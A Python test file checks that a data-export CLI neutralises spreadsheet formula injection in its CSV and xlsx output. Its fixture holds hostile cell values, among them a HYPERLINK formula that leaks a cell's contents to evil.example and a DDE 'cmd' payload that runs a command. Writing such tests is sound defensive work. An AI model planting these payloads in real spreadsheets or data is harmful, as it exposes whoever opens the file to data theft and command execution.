"""Item 10: a name a spreadsheet would run as a formula is neutralised in every CSV and
xlsx the tool writes (OWASP CSV injection: a leading single quote in CSV; xlsx cells
written as strings, never formulas). Numbers stay numbers."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from resilience.cli import app as cli

START = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = {
    "ZC0001": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "ZC0002": "+1+cmd|' /C calc'!A0",
    "ZC0003": "-2+3",
    "ZC0004": "@SUM(1,2)",
    "ZC0005": "\t=1+1",
    "ZC0006": "\r=1+1",
}


@pytest.fixture
def hostile_db(demo_db: Path) -> Path:
    with sqlite3.connect(demo_db) as connection:
        for code, name in FORMULAS.items():
            connection.execute("UPDATE practice SET name = ? WHERE ods_code = ?", (name, code))
    return demo_db


def names_in(text: str, column: str = "name") -> dict[str, str]:
    return {r["ods_code"]: r[column] for r in csv.DictReader(io.StringIO(text))}


def assert_neutral(names: dict[str, str]) -> None:
    """Quoted, or (a carriage return shown as the text ``\\x0d``) no longer a formula."""
    for code in FORMULAS:
        value = names[code]
        assert value.startswith("'") or not value.startswith(START), (code, value)
        assert "=" in value or "@" in value or "+" in value  # the name itself is kept


def test_csv_export(hostile_db: Path) -> None:
    result = CliRunner().invoke(
        cli, ["export", "--period", "2017-03", "--format", "csv", "--db", str(hostile_db)]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert_neutral({r["ods_code"]: r["name"] for r in rows})
    first = rows[0]
    float(first["score"])  # the score is still a plain number
    assert not first["score"].startswith("'")


def test_practices_csv(hostile_db: Path) -> None:
    result = CliRunner().invoke(cli, ["practices", "--format", "csv", "--db", str(hostile_db)])
    assert result.exit_code == 0, result.output
    assert_neutral(names_in(result.stdout))


def test_xlsx_export_has_no_formula(hostile_db: Path, tmp_path: Path) -> None:
    target = tmp_path / "pack.xlsx"
    result = CliRunner().invoke(
        cli,
        ["export", "--period", "2017-03", "--format", "xlsx", "-o", str(target),
         "--db", str(hostile_db)],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    book = load_workbook(target)
    formulas = [
        (ws.title, cell.coordinate, cell.value)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    summary = book["Summary"]
    by_code = {row[0].value: row for row in summary.iter_rows(min_row=2)}
    for code in FORMULAS:
        cell = by_code[code][1]
        assert cell.data_type == "s"
        # Excel's own "this is text, not a formula" flag, for text that looks like one
        assert cell.quotePrefix or not cell.value.startswith(START), cell.value
    assert isinstance(by_code["ZC0001"][4].value, float)  # the score stays a number


def test_cohort_csv(hostile_db: Path) -> None:
    result = CliRunner().invoke(
        cli, ["cohort", "show", "GPRP cohort 1", "--format", "csv", "--db", str(hostile_db)]
    )
    assert result.exit_code == 0, result.output
    practices = [r["practice"] for r in csv.DictReader(io.StringIO(result.stdout))]
    for name in practices:
        assert not name.startswith(START), name


def test_score_csv(tmp_path: Path) -> None:
    rows = tmp_path / "rows.csv"
    rows.write_text("ods_code,period\n=1+1,2017-03\n", encoding="utf-8")
    result = CliRunner().invoke(cli, ["score", str(rows)])
    assert result.exit_code == 0, result.output
    scored = next(csv.DictReader(io.StringIO(result.stdout)))
    assert scored["ods_code"] == "'=1+1"


def test_numbers_stay_numbers_and_text_is_quoted() -> None:
    from resilience.safe_text import spreadsheet_cell

    assert spreadsheet_cell(-3.5) == -3.5 and spreadsheet_cell(7) == 7
    assert spreadsheet_cell(True) is True and spreadsheet_cell(None) is None
    assert spreadsheet_cell("-3") == "'-3" and spreadsheet_cell("@x") == "'@x"
    assert spreadsheet_cell("Dr Smith = Partners") == "Dr Smith = Partners"


@given(
    st.lists(
        st.one_of(
            st.none(),
            st.booleans(),
            st.integers(),
            st.floats(allow_nan=False),
            st.text(alphabet=st.sampled_from("=+-@\t\r\n\x00\x1b\x7f\x85\u202e aZ1;'")),
            st.text(),
        ),
        max_size=20,
    )
)
def test_a_row_is_neutralised_exactly_as_each_cell(values: list[object]) -> None:
    """The batch writer checks a whole row at once (spreadsheet_row); the result is the
    cell-by-cell one, whatever the row holds."""
    from resilience.safe_text import spreadsheet_cell, spreadsheet_row

    assert spreadsheet_row(values) == [spreadsheet_cell(v) for v in values]
